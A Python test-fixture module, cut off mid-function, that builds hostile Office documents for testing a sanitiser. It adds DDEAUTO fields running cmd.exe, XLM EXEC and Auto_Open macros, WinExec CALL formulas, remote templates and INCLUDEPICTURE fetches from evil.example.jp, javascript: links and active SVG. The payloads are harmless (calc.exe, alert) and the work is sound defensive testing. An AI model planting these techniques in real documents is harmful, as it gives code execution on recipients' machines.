"""Hostile OOXML fixtures, built at test time from harmless bases.

Bases come from python-docx / openpyxl / python-pptx and hold real (Japanese) text;
each builder adds one checklist item by editing the package the way Office writes
it. The VBA project is the real one from the corpus (poi/SimpleMacro.xlsm), so
olevba sees a macro in the inputs. Nothing here imports Sekisho code.
"""

from __future__ import annotations

import base64
import io
import re
import struct
import warnings
import zipfile
import zlib
from functools import cache

import defusedxml.ElementTree as DET

from tests.conftest import corpus_dir

JA_DOC = ["見積書 第十二号", "関所（せきしょ）試験用の文書です。", "金額は一万二千円です。",
          "Sekisho test document, English line."]
R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
MSR = "http://schemas.microsoft.com/office/2006/relationships"
WML_MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
DOCM_MAIN = "application/vnd.ms-word.document.macroEnabled.main+xml"
XLSX_MAIN = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
XLSM_MAIN = "application/vnd.ms-excel.sheet.macroEnabled.main+xml"
PPTX_MAIN = "application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml"
PPTM_MAIN = "application/vnd.ms-powerpoint.presentation.macroEnabled.main+xml"
VBA_CT = "application/vnd.ms-office.vbaProject"


@cache
def vba_project() -> bytes:
    """A real, tiny VBA project (OLE file) from the corpus."""
    path = corpus_dir() / "b_ooxml" / "poi" / "SimpleMacro.xlsm"
    with zipfile.ZipFile(path) as zf:
        return zf.read("xl/vbaProject.bin")


def png() -> bytes:
    """A valid 2x2 PNG (a preview picture)."""
    raw = b"".join(b"\x00" + b"\xff\x00\x00" * 2 for _ in range(2))

    def chunk(kind: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + kind + body + struct.pack(
            ">I", zlib.crc32(kind + body) & 0xFFFFFFFF)

    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", 2, 2, 8, 2, 0, 0, 0))
            + chunk(b"IDAT", zlib.compress(raw)) + chunk(b"IEND", b""))


class Pkg:
    """A package being edited: parts by name, in order."""

    def __init__(self, data: bytes) -> None:
        with zipfile.ZipFile(io.BytesIO(data)) as zf:
            self.parts = {n: zf.read(n) for n in zf.namelist()}

    def text(self, name: str) -> str:
        return self.parts[name].decode("utf-8")

    def put(self, name: str, data: str | bytes) -> None:
        self.parts[name] = data.encode("utf-8") if isinstance(data, str) else data

    def sub(self, name: str, old: str, new: str) -> None:
        text = self.text(name)
        assert old in text, f"{old!r} not in {name}"
        self.put(name, text.replace(old, new, 1))

    def rel(self, source: str, rtype: str, target: str, external: bool = False,
            rid: str | None = None) -> str:
        folder, _, base = source.rpartition("/")
        rels = f"{folder}/_rels/{base}.rels" if folder else f"_rels/{base}.rels"
        if rels not in self.parts:
            self.put(rels, '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
                           '<Relationships xmlns="http://schemas.openxmlformats.org/package/'
                           '2006/relationships"></Relationships>')
        text = self.text(rels)
        used = {int(n) for n in re.findall(r'Id="rId(\d+)"', text)}
        rid = rid or f"rId{max(used, default=0) + 100}"
        mode = ' TargetMode="External"' if external else ""
        self.put(rels, text.replace("</Relationships>", f'<Relationship Id="{rid}" Type="{rtype}"'
                                    f' Target="{_esc(target)}"{mode}/></Relationships>'))
        return rid

    def override(self, part: str, ctype: str) -> None:
        text = re.sub(rf'<Override PartName="/{re.escape(part)}"[^>]*/>', "",
                      self.text("[Content_Types].xml"))
        self.put("[Content_Types].xml", text.replace(
            "</Types>", f'<Override PartName="/{part}" ContentType="{ctype}"/></Types>'))

    def default(self, ext: str, ctype: str) -> None:
        text = self.text("[Content_Types].xml")
        if f'Extension="{ext}"' not in text:
            self.put("[Content_Types].xml", text.replace(
                "</Types>", f'<Default Extension="{ext}" ContentType="{ctype}"/></Types>'))

    def body(self, xml: str) -> None:
        """Append WordprocessingML before the document's final section properties."""
        self.sub("word/document.xml", "<w:sectPr", xml + "<w:sectPr")

    def build(self) -> bytes:
        out = io.BytesIO()
        with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zf:
            for name, data in self.parts.items():
                zf.writestr(name, data)
        return out.getvalue()


def _esc(s: str) -> str:
    return s.replace("&", "&amp;").replace('"', "&quot;").replace("<", "&lt;")


# ------------------------------------------------------------------------------- bases


def base_docx(lines: list[str] | None = None) -> bytes:
    import docx

    doc = docx.Document()
    doc.add_heading("関所 試験文書", level=1)
    for line in lines or JA_DOC:
        doc.add_paragraph(line)
    out = io.BytesIO()
    doc.save(out)
    return out.getvalue()


def base_xlsx() -> bytes:
    import openpyxl

    wb = openpyxl.Workbook()
    ws = wb.active
    ws.title = "集計"
    for row in (("品目", "数量"), ("りんご", 12), ("みかん", 30)):
        ws.append(row)
    ws["A4"] = "合計"
    ws["B4"] = "=SUM(B2:B3)"
    wb.create_sheet("明細")["A1"] = "明細シート"
    out = io.BytesIO()
    wb.save(out)
    return out.getvalue()


def base_pptx() -> bytes:
    import pptx

    prs = pptx.Presentation()
    slide = prs.slides.add_slide(prs.slide_layouts[1])
    slide.shapes.title.text = "会議資料"
    slide.placeholders[1].text = "第三四半期の報告です。"
    out = io.BytesIO()
    prs.save(out)
    return out.getvalue()


def pptx_click_actions() -> bytes:
    """A slide whose title starts a program when clicked (ppaction://program with an
    external target), whose body runs an OLE verb on hover, and a third shape that only
    jumps to the next slide (harmless, kept)."""
    p = Pkg(base_pptx())
    slide = "ppt/slides/slide1.xml"
    rid = p.rel(slide, R + "/hyperlink", "file:///C:/Windows/System32/calc.exe", external=True)
    p.sub(slide, '<p:cNvPr id="2" name="Title 1"/>',
          f'<p:cNvPr id="2" name="Title 1"><a:hlinkClick r:id="{rid}" '
          'action="ppaction://program"/></p:cNvPr>')
    p.sub(slide, '<p:cNvPr id="3" name="Content Placeholder 2"/>',
          '<p:cNvPr id="3" name="Content Placeholder 2"><a:hlinkHover r:id="" '
          'action="ppaction://ole?verb=0"/><a:hlinkClick r:id="" '
          'action="ppaction://hlinkshowjump?jump=nextslide"/></p:cNvPr>')
    return p.build()


# --------------------------------------------------------------------------- macros


def docm(*, signature: bool = False, vba_data: bool = False, custom_ui: bool = False,
         dde: bool = False) -> bytes:
    p = Pkg(docx_dde(complex_field=True) if dde else base_docx())
    p.put("word/vbaProject.bin", vba_project())
    p.rel("word/document.xml", f"{MSR}/vbaProject", "vbaProject.bin")
    p.default("bin", VBA_CT)
    p.override("word/document.xml", DOCM_MAIN)
    if signature:
        p.put("word/vbaProjectSignature.bin", b"\x30\x82\x01\x00" + bytes(252))
        p.rel("word/vbaProject.bin", f"{MSR}/vbaProjectSignature", "vbaProjectSignature.bin")
        p.override("word/vbaProjectSignature.bin", "application/vnd.ms-office.vbaProjectSignature")
    if vba_data:
        p.put("word/vbaData.xml", '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
              '<wne:vbaSuppData xmlns:wne="http://schemas.microsoft.com/office/word/2006/wordml">'
              '<wne:mcds><wne:mcd wne:macroName="PROJECT.NEWMACROS.AUTOOPEN" '
              'wne:name="Project.NewMacros.AutoOpen" wne:bEncrypt="00" wne:cmg="56"/>'
              "</wne:mcds></wne:vbaSuppData>")
        p.rel("word/vbaProject.bin", f"{MSR}/wordVbaData", "vbaData.xml")
        p.override("word/vbaData.xml", "application/vnd.ms-word.vbaData+xml")
    if custom_ui:
        p.put("customUI/customUI14.xml",
              '<customUI xmlns="http://schemas.microsoft.com/office/2009/07/customui" '
              'onLoad="Ribbon_OnLoad"><ribbon><tabs><tab id="t" label="関所">'
              '<group id="g" label="g"><button id="b" label="実行" onAction="RunIt"/></group>'
              "</tab></tabs></ribbon></customUI>")
        p.rel("", "http://schemas.microsoft.com/office/2007/relationships/ui/extensibility",
              "customUI/customUI14.xml")
    return p.build()


def xlsm() -> bytes:
    p = Pkg(base_xlsx())
    p.put("xl/vbaProject.bin", vba_project())
    p.rel("xl/workbook.xml", f"{MSR}/vbaProject", "vbaProject.bin")
    p.default("bin", VBA_CT)
    p.override("xl/workbook.xml", XLSM_MAIN)
    return p.build()


MACROSHEET = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
              '<xm:macrosheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
              'xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main"><sheetData>'
              '<row r="1"><c r="A1" t="str"><f>EXEC("calc.exe")</f><v>実行</v></c></row>'
              '<row r="2"><c r="A2" t="b"><f>HALT()</f><v>1</v></c>'
              '<c r="B2" t="s"><v>0</v></c><c r="C2"><f>1+1</f><v>2</v></c></row>'
              "</sheetData><drawing r:id=\"rId1\" xmlns:r=\"http://schemas.openxmlformats.org/"
              'officeDocument/2006/relationships"/></xm:macrosheet>')


def xlsm_xlm(*, broken: bool = False) -> bytes:
    """An XLM macro sheet placed first, run by _xlnm.Auto_Open; a print area on the
    second sheet and the active tab on it (index 1 -> 0 if the macro sheet goes).
    ``broken``: the macro sheet is not well-formed XML."""
    p = Pkg(base_xlsx())
    p.put("xl/macrosheets/sheet1.xml", MACROSHEET.replace("</sheetData>", "") if broken
          else MACROSHEET)
    rid = p.rel("xl/workbook.xml", f"{MSR}/xlMacrosheet", "macrosheets/sheet1.xml")
    p.override("xl/macrosheets/sheet1.xml", "application/vnd.ms-excel.macrosheet+xml")
    p.override("xl/workbook.xml", XLSM_MAIN)
    p.sub("xl/workbook.xml", "<sheets>",
          f'<sheets><sheet xmlns:r="{R}" name="Macro1" sheetId="9" state="hidden" r:id="{rid}"/>')
    p.sub("xl/workbook.xml", "<definedNames/>",
          '<definedNames><definedName name="_xlnm.Auto_Open">Macro1!$A$1</definedName>'
          '<definedName name="_xlnm.Print_Area" localSheetId="1">'
          "'集計'!$A$1:$B$4</definedName></definedNames>")
    p.sub("xl/workbook.xml", 'activeTab="0"', 'activeTab="1"')
    return p.build()


# --------------------------------------------------------------------- objects, ActiveX

_OBJECT = ('<w:p><w:r><w:object w:dxaOrig="1440" w:dyaOrig="720">'
           '<v:shape id="_x0000_i10{n}" type="#_x0000_t75" style="width:72pt;height:36pt" '
           'o:ole=""><v:imagedata r:id="{img}" o:title=""/></v:shape>{inner}</w:object>'
           "</w:r></w:p>")


def _preview(p: Pkg, source: str = "word/document.xml") -> str:
    n = sum(1 for k in p.parts if k.startswith("word/media/")) + 1
    p.put(f"word/media/preview{n}.png", png())
    p.default("png", "image/png")
    return p.rel(source, f"{R}/image", f"media/preview{n}.png")


def docx_activex() -> bytes:
    p = Pkg(base_docx())
    p.put("word/activeX/activeX1.xml",
          '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
          f'<ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/activeX" xmlns:r="{R}" '
          'ax:classid="{D7053240-CE69-11CD-A777-00DD01143C57}" ax:persistence="persistStorage" '
          'r:id="rId1"/>')
    p.put("word/activeX/activeX1.bin", vba_project())
    p.put("word/activeX/_rels/activeX1.xml.rels",
          '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Relationships xmlns='
          '"http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1"'
          f' Type="{MSR}/activeXControlBinary" Target="activeX1.bin"/></Relationships>')
    p.override("word/activeX/activeX1.xml", "application/vnd.ms-office.activeX+xml")
    p.override("word/activeX/activeX1.bin", "application/vnd.ms-office.activeX")
    ctl = p.rel("word/document.xml", f"{R}/control", "activeX/activeX1.xml")
    img = _preview(p)
    p.body(_OBJECT.format(n=25, img=img, inner=f'<w:control r:id="{ctl}" '
                          'w:name="CommandButton1" w:shapeid="_x0000_i1025"/>'))
    return p.build()


def docx_embedded(child: bytes, name: str, prog_id: str, ctype: str) -> bytes:
    """An embedded file shown as an object (package relationship, o:OLEObject)."""
    p = Pkg(base_docx())
    p.put(f"word/embeddings/{name}", child)
    p.default(name.rsplit(".", 1)[1], ctype)
    rid = p.rel("word/document.xml", f"{R}/package", f"embeddings/{name}")
    img = _preview(p)
    p.body(_OBJECT.format(n=26, img=img, inner=f'<o:OLEObject Type="Embed" ProgID="{prog_id}" '
                          'ShapeID="_x0000_i1026" DrawAspect="Content" ObjectID="_1700000001" '
                          f'r:id="{rid}"/>'))
    return p.build()


def pptx_embedded_xlsx(child: bytes) -> bytes:
    import pptx
    from pptx.enum.shapes import PROG_ID
    from pptx.util import Inches

    prs = pptx.Presentation(io.BytesIO(base_pptx()))
    prs.slides[0].shapes.add_ole_object(io.BytesIO(child), PROG_ID.XLSX, Inches(1), Inches(3),
                                        Inches(2), Inches(1.5))
    out = io.BytesIO()
    prs.save(out)
    return out.getvalue()


def docx_object_embed_drawing(child: bytes) -> bytes:
    """Word 2010+ markup: a DrawingML preview and ``w:objectEmbed`` in a ``w:object``."""
    import docx

    doc = docx.Document(io.BytesIO(base_docx()))
    doc.add_picture(io.BytesIO(png()))
    out = io.BytesIO()
    doc.save(out)
    p = Pkg(out.getvalue())
    p.put("word/embeddings/Microsoft_Excel_Worksheet.xlsx", child)
    p.default("xlsx", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet")
    rid = p.rel("word/document.xml", f"{R}/package", "embeddings/Microsoft_Excel_Worksheet.xlsx",
                rid="rIdEmb")
    text = p.text("word/document.xml")
    start, end = text.index("<w:drawing>"), text.index("</w:drawing>") + len("</w:drawing>")
    p.put("word/document.xml", text[:start] + "<w:object>" + text[start:end] +
          f'<w:objectEmbed w:drawAspect="content" r:id="{rid}" w:progId="Excel.Sheet.12" '
          'w:shapeId="1" w:fieldCodes=""/></w:object>' + text[end:])
    return p.build()


def signed(data: bytes) -> bytes:
    """Add a package signature (origin + one XML signature part)."""
    p = Pkg(data)
    pkg = "http://schemas.openxmlformats.org/package/2006/relationships/digital-signature"
    p.put("_xmlsignatures/origin.sigs", b"")
    p.put("_xmlsignatures/sig1.xml", '<Signature xmlns="http://www.w3.org/2000/09/xmldsig#"/>')
    p.rel("", f"{pkg}/origin", "_xmlsignatures/origin.sigs", rid="rIdSig")
    p.rel("_xmlsignatures/origin.sigs", f"{pkg}/signature", "sig1.xml")
    p.default("sigs", "application/vnd.openxmlformats-package.digital-signature-origin")
    p.override("_xmlsignatures/sig1.xml",
               "application/vnd.openxmlformats-package.digital-signature-xmlsignature+xml")
    return p.build()


# --------------------------------------------------------------------- external links


def docx_attached_template() -> bytes:
    p = Pkg(base_docx())
    rid = p.rel("word/settings.xml", f"{R}/attachedTemplate",
                "http://evil.example.jp/templates/seikyu.dotm", external=True, rid="rIdTpl")
    p.sub("word/settings.xml", "<w:defaultTabStop",
          f'<w:attachedTemplate r:id="{rid}"/><w:defaultTabStop')
    return p.build()


def docx_mail_merge() -> bytes:
    p = Pkg(base_docx())
    rid = p.rel("word/settings.xml", f"{R}/mailMergeSource",
                "file:///\\\\evil.example.jp\\share\\list.xlsx", external=True, rid="rIdMM")
    p.sub("word/settings.xml", "<w:defaultTabStop",
          '<w:mailMerge><w:mainDocumentType w:val="formLetters"/><w:linkToQuery/>'
          '<w:dataType w:val="native"/><w:connectString w:val="Provider=Microsoft.ACE.OLEDB.12.0;'
          'Data Source=\\\\evil.example.jp\\share\\list.xlsx"/>'
          '<w:query w:val="SELECT * FROM `Sheet1$`"/>'
          f'<w:dataSource r:id="{rid}"/></w:mailMerge><w:defaultTabStop')
    return p.build()


def docx_subdocument() -> bytes:
    p = Pkg(base_docx())
    rid = p.rel("word/document.xml", f"{R}/subDocument", "file://evil.example.jp/share/sub.docx",
                external=True, rid="rIdSub")
    p.body(f'<w:p><w:subDoc r:id="{rid}"/></w:p>')
    return p.build()


def docx_frame() -> bytes:
    p = Pkg(base_docx())
    rid = p.rel("word/webSettings.xml", f"{R}/frame", "http://evil.example.jp/frame.html",
                external=True, rid="rIdFrame")
    text = p.text("word/webSettings.xml")
    root_end = text.index(">", text.index("<w:webSettings")) + 1
    p.put("word/webSettings.xml", text[:root_end] + f'<w:frameset xmlns:r="{R}"><w:frame>'
          f'<w:name w:val="left"/><w:sourceFileName r:id="{rid}"/></w:frame></w:frameset>'
          + text[root_end:])
    return p.build()


def docx_ole_link() -> bytes:
    p = Pkg(base_docx())
    rid = p.rel("word/document.xml", f"{R}/oleObject", "file:///C:/secret/keiyaku.xlsx",
                external=True, rid="rIdLink")
    img = _preview(p)
    p.body(_OBJECT.format(n=27, img=img, inner=f'<o:OLEObject Type="Link" ProgID="Excel.Sheet.12" '
                          f'ShapeID="_x0000_i1027" DrawAspect="Content" r:id="{rid}" '
                          'UpdateMode="Always"><o:LinkType>EnhancedMetaFile</o:LinkType>'
                          "<o:LockedField>false</o:LockedField></o:OLEObject>"))
    return p.build()


def docx_hyperlinks() -> bytes:
    p = Pkg(base_docx())
    web = p.rel("word/document.xml", f"{R}/hyperlink", "https://www.example.jp/sekisho",
                external=True, rid="rIdWeb")
    exe = p.rel("word/document.xml", f"{R}/hyperlink", "file:///C:/Windows/System32/calc.exe",
                external=True, rid="rIdExe")
    p.body(f'<w:p><w:hyperlink r:id="{web}"><w:r><w:t>関所のサイト</w:t></w:r></w:hyperlink>'
           f'<w:r><w:t xml:space="preserve"> と </w:t></w:r><w:hyperlink r:id="{exe}"><w:r>'
           "<w:t>電卓</w:t></w:r></w:hyperlink></w:p>")
    return p.build()


def _fld(kind: str) -> str:
    return f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>'


def _instr(text: str) -> str:
    return f'<w:r><w:instrText xml:space="preserve">{text}</w:instrText></w:r>'


def docx_dde(complex_field: bool) -> bytes:
    p = Pkg(base_docx())
    if complex_field:   # the instruction split over runs: "DD" + "EAUTO …"
        p.body("<w:p><w:r><w:t xml:space=\"preserve\">前の文 </w:t></w:r>" + _fld("begin")
               + _instr(" DD") + _instr('EAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe" ')
               + _fld("separate") + "<w:r><w:t>最後の表示結果</w:t></w:r>" + _fld("end")
               + "<w:r><w:t xml:space=\"preserve\"> 後の文</w:t></w:r></w:p>")
    else:
        p.body('<w:p><w:fldSimple w:instr=" DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe '
               '&quot;/k calc.exe&quot; "><w:r><w:t>単純フィールドの結果</w:t></w:r>'
               "</w:fldSimple></w:p>")
    return p.build()


def docx_macrobutton() -> bytes:
    """MACROBUTTON fields as Word templates use them (oletools' msodde reports every one):
    a complex field whose display text is split over runs and a fldSimple without a
    result run; the text shows until double-clicked, which runs the macro or command."""
    p = Pkg(base_docx())
    p.body("<w:p><w:r><w:t xml:space=\"preserve\">氏名: </w:t></w:r>" + _fld("begin")
           + _instr(" MACROBUTTON  NoMacro ［ここをクリックして")
           + _instr("氏名を入力］ ") + _fld("end") + "</w:p>")
    p.body('<w:p><w:fldSimple w:instr=" MACROBUTTON FileOpen 資料を開く "/></w:p>')
    return p.build()


def docx_deleted_macrobutton() -> bytes:
    """A MACROBUTTON field inside a tracked deletion: its instruction is w:delInstrText."""
    p = Pkg(base_docx())
    p.body('<w:p><w:del w:id="1" w:author="職員" w:date="2026-11-27T00:00:00Z">'
           '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
           '<w:r><w:delInstrText xml:space="preserve"> MACROBUTTON NoMacro 削除された案内 '
           '</w:delInstrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:del></w:p>')
    return p.build()


def docx_ole_disguised() -> bytes:
    """A VBA project (an OLE file) in parts Office never runs: an image relationship's
    target named .png, and a custom XML item."""
    p = Pkg(base_docx())
    p.put("word/media/image9.png", vba_project())
    p.rel("word/document.xml", f"{R}/image", "media/image9.png", rid="rIdPic")
    p.default("png", "image/png")
    p.put("customXml/item9.bin", vba_project())
    p.rel("word/document.xml", f"{R}/customXml", "../customXml/item9.bin", rid="rIdItem")
    return p.build()


def docx_hyperlink_fields() -> bytes:
    """HYPERLINK fields: javascript: (split over runs), UNC (fldSimple), a web link, a
    bookmark jump, and one whose address a nested field computes."""
    p = Pkg(base_docx())

    def par(*xml: str) -> str:
        return "<w:p>" + "".join(xml) + "</w:p>"

    def result(text: str) -> str:
        return f"<w:r><w:t>{text}</w:t></w:r>"

    p.body(par(_fld("begin"), _instr(" HYPER"), _instr('LINK "javascript:alert(1)" '),
               _fld("separate"), result("スクリプトのリンク"), _fld("end"))
           + par('<w:fldSimple w:instr=" HYPERLINK &quot;\\\\\\\\evil.example.jp\\\\share'
                 '\\\\a.exe&quot; ">', result("共有フォルダ"), "</w:fldSimple>")
           + par(_fld("begin"), _instr(' HYPERLINK "https://www.example.jp/" \\o "案内" '),
                 _fld("separate"), result("関所のサイト"), _fld("end"))
           + par(_fld("begin"), _instr(' HYPERLINK \\l "_Toc1" '), _fld("separate"),
                 result("目次へ"), _fld("end"))
           + par(_fld("begin"), _instr(" HYPERLINK "), _fld("begin"),
                 _instr(' QUOTE "file:///C:/Windows/System32/calc.exe" '), _fld("separate"),
                 result("x"), _fld("end"), _fld("separate"), result("計算されたリンク"),
                 _fld("end")))
    return p.build()


def docx_include_fields() -> bytes:
    p = Pkg(base_docx())
    p.body("<w:p>" + _fld("begin") + _instr(' INCLUDEPICTURE "http://evil.example.jp/t.png" \\d ')
           + _fld("separate") + "<w:r><w:t>画像の代わり</w:t></w:r>" + _fld("end") + "</w:p>"
           + "<w:p>" + _fld("begin") + _instr(' INCLUDETEXT "\\\\\\\\evil\\\\share\\\\x.docx" ')
           + _fld("separate") + "<w:r><w:t>取り込まれた文</w:t></w:r>" + _fld("end") + "</w:p>"
           + "<w:p>" + _fld("begin") + _instr(" PAGE ") + _fld("separate")
           + "<w:r><w:t>1</w:t></w:r>" + _fld("end") + "</w:p>"
           # a mail-merge database query (an ODBC source on a share) and a referenced
           # document for the index: both read files outside the document on update
           + "<w:p>" + _fld("begin")
           + _instr(' DATABASE \\d "\\\\evil\\share\\名簿.mdb" \\c '
                    '"Provider=Microsoft.ACE.OLEDB.12.0;Data Source=\\\\evil\\share\\名簿.mdb" '
                    '\\s "SELECT * FROM 名簿" ')
           + _fld("separate") + "<w:r><w:t>山田太郎</w:t></w:r>" + _fld("end") + "</w:p>"
           + "<w:p>" + _fld("begin") + _instr(' RD "\\\\evil\\share\\chapter2.docx" \\f ')
           + _fld("separate") + _fld("end") + "<w:r><w:t>索引の参照</w:t></w:r></w:p>")
    return p.build()


SVG_ACTIVE = (b'<svg xmlns="http://www.w3.org/2000/svg" width="40" height="40" '
              b'onload="alert(1)"><script>alert(2)</script><rect width="40" height="40" '
              b'fill="#36c"/><a href="javascript:alert(3)"><text x="2" y="30">SVG</text></a>'
              b'</svg>')
SVG_PLAIN = (b'<svg xmlns="http://www.w3.org/2000/svg" width="40" height="40">'
             b'<rect width="40" height="40" fill="#36c"/></svg>')


def docx_svg_picture(svg: bytes = SVG_ACTIVE) -> bytes:
    """A picture drawn from an SVG part (Word 2016 inserts SVG with a PNG fallback;
    here the blip names the SVG itself, as other writers do)."""
    p = Pkg(base_docx(["SVG の図があります。"]))
    p.put("word/media/image1.svg", svg)
    p.default("svg", "image/svg+xml")
    rid = p.rel("word/document.xml", f"{R}/image", "media/image1.svg")
    a = "http://schemas.openxmlformats.org/drawingml/2006/main"
    pic = "http://schemas.openxmlformats.org/drawingml/2006/picture"
    wp = "http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing"
    p.body(f'<w:p><w:r><w:drawing><wp:inline xmlns:wp="{wp}"><wp:extent cx="381000" '
           f'cy="381000"/><wp:docPr id="9" name="図 1"/><a:graphic xmlns:a="{a}">'
           f'<a:graphicData uri="{pic}"><pic:pic xmlns:pic="{pic}"><pic:nvPicPr>'
           f'<pic:cNvPr id="9" name="image1.svg"/><pic:cNvPicPr/></pic:nvPicPr><pic:blipFill>'
           f'<a:blip xmlns:r="{R}" r:embed="{rid}"/><a:stretch><a:fillRect/></a:stretch>'
           f'</pic:blipFill><pic:spPr><a:xfrm><a:off x="0" y="0"/><a:ext cx="381000" '
           f'cy="381000"/></a:xfrm><a:prstGeom prst="rect"><a:avLst/></a:prstGeom>'
           f'</pic:spPr></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing>'
           f'</w:r></w:p>')
    return p.build()


def xlsx_external_link(dde: bool) -> bytes:
    """A formula reading another workbook (or a DDE link), with calcChain."""
    p = Pkg(base_xlsx())
    ns = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
    if dde:
        link = (f'<externalLink {ns}><ddeLink xmlns:r="{R}" ddeService="cmd" '
                'ddeTopic="/c calc.exe"><ddeItems><ddeItem name="_xlbgnm.A1" advise="1"/>'
                "</ddeItems></ddeLink></externalLink>")
        formula = "[1]!_xlbgnm.A1"
    else:
        link = (f'<externalLink {ns} xmlns:r="{R}"><externalBook r:id="rId1"><sheetNames>'
                '<sheetName val="Sheet1"/></sheetNames></externalBook></externalLink>')
        formula = "[1]Sheet1!$A$1"
        p.put("xl/externalLinks/_rels/externalLink1.xml.rels",
              '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Relationships xmlns='
              '"http://schemas.openxmlformats.org/package/2006/relationships"><Relationship '
              f'Id="rId1" Type="{R}/externalLinkPath" Target="file:///C:/data/other.xlsx" '
              'TargetMode="External"/></Relationships>')
    p.put("xl/externalLinks/externalLink1.xml", link)
    rid = p.rel("xl/workbook.xml", f"{R}/externalLink", "externalLinks/externalLink1.xml")
    p.override("xl/externalLinks/externalLink1.xml",
               "application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml")
    p.sub("xl/workbook.xml", "</sheets>", f'</sheets><externalReferences xmlns:r="{R}">'
          f'<externalReference r:id="{rid}"/></externalReferences>')
    p.sub("xl/worksheets/sheet1.xml", "<f>SUM(B2:B3)</f><v></v>", f"<f>{formula}</f><v>42</v>")
    p.put("xl/calcChain.xml", f'<calcChain {ns}><c r="B4" i="1"/></calcChain>')
    p.rel("xl/workbook.xml", f"{R}/calcChain", "calcChain.xml")
    p.override("xl/calcChain.xml",
               "application/vnd.openxmlformats-officedocument.spreadsheetml.calcChain+xml")
    return p.build()


#: formulas of xlsx_active_cells: cell -> (formula, cached value); the last two stay
ACTIVE_CELLS = {
    "A10": ('HYPERLINK("file:///c:/windows/system32/calc.exe","calc")', "calc"),
    "B10": ('WEBSERVICE("http://tracker.example/x")', "ws"),
    "C10": ('RTD("evil.progid",,"x")', "rtd"),
    "D10": ("'C:\\data\\[book.xlsx]Sheet1'!A1", "seven"),
    "E10": ('_xlfn.IMAGE("http://tracker.example/p.png")', "img"),
    "F10": ('CALL("kernel32","WinExec","JCJ","calc",0)', "call"),
    "G10": ('HYPERLINK("#明細!A1","jump")', "jump"),
    "H10": ('CONCATENATE("[book.xlsx] is ","text")', "[book.xlsx] is text"),
}
#: defined names of xlsx_active_cells: the first three go, the last stays
ACTIVE_NAMES = {"XlmName": "GET.WORKBOOK(1)",
                "CallName": 'CALL("kernel32","WinExec","JCJ","calc",0)',
                "ExtName": "'\\\\evil.example\\s\\[book.xlsx]Sheet1'!$A$1",
                "OkName": "'集計'!$A$1"}
SHAPE_MACRO = "'C:\\Users\\Public\\evil.xlsm'!Auto"


def xlsx_active_cells() -> bytes:
    """A workbook whose formulas fetch, call or open things (ACTIVE_CELLS), whose names
    call Excel 4.0 functions or another workbook (ACTIVE_NAMES), with a drawing: a shape
    running a macro of another workbook, its text linked to that workbook's cell, and a
    shape whose click jumps to a place in this workbook; and a legacy form button running
    a macro (XlsxWriter's macros.xlsm example, less its VBA)."""
    from xml.sax.saxutils import escape

    p = Pkg(base_xlsx())
    cells = "".join(f'<c r="{ref}" t="str"><f>{escape(f)}</f><v>{escape(v)}</v></c>'
                    for ref, (f, v) in ACTIVE_CELLS.items())
    p.sub("xl/worksheets/sheet1.xml", "</sheetData>", f'<row r="10">{cells}</row></sheetData>')
    names = "".join(f'<definedName name="{n}">{escape(f)}</definedName>'
                    for n, f in ACTIVE_NAMES.items())
    p.sub("xl/workbook.xml", "<definedNames/>", f"<definedNames>{names}</definedNames>")
    xdr = "http://schemas.openxmlformats.org/drawingml/2006/spreadsheetDrawing"
    a = "http://schemas.openxmlformats.org/drawingml/2006/main"

    def shape(n: int, attrs: str, extra: str = "") -> str:
        return (f'<xdr:twoCellAnchor><xdr:from><xdr:col>{n}</xdr:col><xdr:colOff>0'
                f"</xdr:colOff><xdr:row>12</xdr:row><xdr:rowOff>0</xdr:rowOff></xdr:from>"
                f"<xdr:to><xdr:col>{n + 2}</xdr:col><xdr:colOff>0</xdr:colOff><xdr:row>16"
                f"</xdr:row><xdr:rowOff>0</xdr:rowOff></xdr:to><xdr:sp {attrs}><xdr:nvSpPr>"
                f'<xdr:cNvPr id="{n + 2}" name="Shape {n}">{extra}</xdr:cNvPr><xdr:cNvSpPr/>'
                '</xdr:nvSpPr><xdr:spPr><a:prstGeom prst="rect"><a:avLst/></a:prstGeom>'
                f"</xdr:spPr><xdr:txBody><a:bodyPr/><a:p><a:r><a:t>Shape {n}</a:t></a:r>"
                "</a:p></xdr:txBody></xdr:sp><xdr:clientData/></xdr:twoCellAnchor>")

    rid = p.rel("xl/drawings/drawing1.xml", f"{R}/hyperlink", "#明細!A1", external=True)
    p.put("xl/drawings/drawing1.xml",
          f'<xdr:wsDr xmlns:xdr="{xdr}" xmlns:a="{a}" xmlns:r="{R}">'
          + shape(0, f'macro="{escape(SHAPE_MACRO)}" '
                     f'textlink="{escape(ACTIVE_CELLS["D10"][0])}" textlock="1"')
          + shape(4, 'macro=""', f'<a:hlinkClick r:id="{rid}"/>') + "</xdr:wsDr>")
    p.override("xl/drawings/drawing1.xml",
               "application/vnd.openxmlformats-officedocument.drawing+xml")
    drawing = p.rel("xl/worksheets/sheet1.xml", f"{R}/drawing", "../drawings/drawing1.xml")
    p.put("xl/drawings/vmlDrawing1.vml",
